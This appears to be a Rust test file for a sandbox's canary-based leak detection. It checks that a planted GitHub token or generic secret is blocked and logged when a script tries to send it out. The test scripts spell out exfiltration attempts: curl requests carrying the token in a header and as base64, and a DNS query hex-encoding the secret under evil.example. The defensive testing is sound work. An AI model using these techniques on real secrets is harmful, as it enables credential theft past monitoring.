//! `run --canary VAR=KIND` (docs/reference/dlp.md): CMD's `VAR` holds a fresh value of
//! the kind, and a request that carries it, as it is or base64-encoded, never reaches
//! the origin, while the same request without it does; the record names the canary
//! `run:VAR`, never its value. A DNS lookup carrying it is refused inside the jail.

use hickory_proto::rr::RecordType;

use super::{require_jail, Jailed};
use crate::support::dns::DnsServer;
use crate::support::dns_client::UdpClient;
use crate::support::org::{allowlist_json, Org};
use crate::support::origin::Origin;
use crate::support::proxy::QUIET_PERIOD;

#[tokio::test]
async fn a_canary_planted_in_cmds_environment_never_leaves_through_an_allowed_door() {
    require_jail!();
    let origin = Origin::start().await;
    let port = origin.port();
    let script = format!(
        r#"printf 'shape:%s\n' "$(printf %s "$GITHUB_TOKEN" | grep -cE '^ghp_[A-Za-z0-9]{{36}}$')"
printf 'value:%s\n' "$GITHUB_TOKEN"
curl -s -o /dev/null -w 'clean:%{{http_code}}\n' http://allowed.test:{port}/clean
curl -s -o /dev/null -w 'header:%{{http_code}}\n' -H "Authorization: token $GITHUB_TOKEN" http://allowed.test:{port}/header
curl -s -o /dev/null -w 'base64:%{{http_code}}\n' "http://allowed.test:{port}/q?d=$(printf %s "$GITHUB_TOKEN" | base64 -w0 | tr -d =)"
"#
    );
    let jailed = Jailed::standard(port)
        .arg("--canary")
        .arg("GITHUB_TOKEN=github_token")
        .env("GITHUB_TOKEN", "inherited-value-is-replaced");
    let dir = jailed.dir.clone();
    let out = jailed
        .env("HOME_DIR", dir.to_str().unwrap())
        .sh(&script)
        .await;
    assert_eq!(out.code(), Some(0), "{out}");
    for line in ["shape:1", "clean:200", "header:403", "base64:403"] {
        assert!(out.stdout.contains(line), "{line}: {out}");
    }
    let paths: Vec<String> = origin.requests().into_iter().map(|r| r.target).collect();
    assert_eq!(
        paths,
        ["/clean"],
        "only the clean request reached the origin"
    );
    let refused: Vec<_> = out
        .audit
        .iter()
        .filter(|r| r["reason"] == "exfiltration_detected")
        .collect();
    assert_eq!(refused.len(), 2, "{out}");
    for r in &refused {
        assert_eq!(r["dlp"]["id"], "run:GITHUB_TOKEN", "{r}");
        assert_eq!(r["dlp"]["kind"], "github_token", "{r}");
    }
    let value = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("value:"))
        .unwrap()
        .to_string();
    assert!(value.starts_with("ghp_"), "{value}");
    let audit = serde_json::to_string(&out.audit).unwrap();
    assert!(
        !audit.contains(&value) && !out.stderr.contains(&value),
        "{out}"
    );
}

/// A DNS lookup inside the jail whose name carries a `run --canary` value in
/// hexadecimal, split over labels (docs/reference/dlp.md, "What matches"): the jail's DNS
/// answers `REFUSED` and nothing else, one record names the canary (`"via": "dns"`,
/// `"encoding": "hex"`), and the upstream DNS server `run` was given never hears of it.
/// The controls: a clean name under the same allowed domain is answered, by a raw
/// query and by the C library's resolver (`getent`).
#[tokio::test]
async fn a_dns_lookup_carrying_a_canary_in_hex_labels_is_refused_inside_the_jail() {
    require_jail!();
    let upstream = DnsServer::builder()
        .record("outside.test", std::net::Ipv4Addr::LOCALHOST)
        .start()
        .await;
    // The probe: the upstream server records what it is asked.
    let mut outside = UdpClient::new(upstream.addr()).await;
    outside.query("outside.test.", RecordType::A).await;
    let asked_outside = upstream.queried_names();
    assert_eq!(asked_outside.len(), 1, "{asked_outside:?}");
    let script = r#"
import os, socket, struct, subprocess
value = os.environ["SECRET"]
print("value:" + value)
hexed = value.encode().hex()
def question(name):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
def ask(name):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
    u.sendto(question(name), ("8.8.8.8", 53))
    reply = u.recvfrom(512)[0]
    rcode, answers = struct.unpack(">H", reply[2:4])[0] & 0xF, struct.unpack(">H", reply[6:8])[0]
    return f"rcode={rcode} answers={answers}"
def getent(name):
    return subprocess.run(["getent", "hosts", name], capture_output=True).returncode
labels = [hexed[i:i + 63] for i in range(0, len(hexed), 63)]
assert all(len(l) <= 63 for l in labels) and len(labels) > 1
carrying = ".".join(labels) + ".evil.example"
print("clean", ask("cafe0123.evil.example"), "getent", getent("cafe0123.evil.example"))
print("canary", ask(carrying))
"#;
    let out = Jailed::new(Org::standard(80).allow("*.evil.example").to_toml())
        .policy(allowlist_json(&["allowed.test", "*.evil.example"]))
        .arg("--canary")
        .arg("SECRET=generic")
        .arg("--dns-server")
        .arg(upstream.addr().to_string())
        .python(script)
        .await;
    assert_eq!(out.code(), Some(0), "{out}");
    assert!(
        out.stdout.contains("clean rcode=0 answers=1 getent 0"),
        "the clean name is answered: {out}"
    );
    assert!(
        out.stdout.contains("canary rcode=5 answers=0"),
        "REFUSED: {out}"
    );
    let value = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("value:"))
        .unwrap()
        .to_string();
    assert_eq!(value.len(), 40, "{out}");
    tokio::time::sleep(QUIET_PERIOD).await;
    assert_eq!(upstream.queried_names(), asked_outside, "{out}");
    let dlp: Vec<_> = out
        .audit
        .iter()
        .filter(|r| r.get("dlp").is_some())
        .collect();
    assert_eq!(dlp.len(), 1, "one record: {out}");
    let record = dlp[0];
    assert_eq!(record["event"], "egress.denied", "{record}");
    assert_eq!(record["reason"], "exfiltration_detected", "{record}");
    assert_eq!(record["policy_level"], "dlp", "{record}");
    assert_eq!(record["via"], "dns", "{record}");
    assert_eq!(record["host"], "[redacted]", "{record}");
    let want = serde_json::json!({
        "id": "run:SECRET", "kind": "generic", "encoding": "hex", "found_in": "dns"
    });
    assert_eq!(record["dlp"], want, "{record}");
    let audit = serde_json::to_string(&out.audit).unwrap();
    for form in crate::dlp::shown::encoded_forms(&value) {
        assert!(
            !audit.contains(&form) && !out.stderr.contains(&form),
            "{form} shown: {out}"
        );
    }
}
